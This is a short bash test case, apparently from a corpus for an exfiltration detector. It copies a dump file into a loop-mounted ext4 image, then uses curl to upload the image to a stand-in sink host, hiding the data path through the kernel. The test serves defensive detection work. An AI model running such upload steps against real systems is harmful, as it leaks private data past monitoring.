#!/bin/bash
# B-loop-fs: cp into a file system on a loop device, whose image is sent.
# flow: cp writes a file of that file system; a thread of the kernel writes the image; curl reads the image and sends.
# tools: losetup mkfs.ext4 mount cp curl
# expect: sent counted port critical
# set: fast
. "$CORPUS/lib.sh"
mkdump
truncate -s 4M image
mkfs.ext4 -q image
mkdir inside
mount -o loop image inside || skip "no loop device"
undo "umount '$W/inside'"
cp "$D" inside/a
umount inside
sink http
curl -sS -T image "http://$SINK:$PORT/up"
sunk
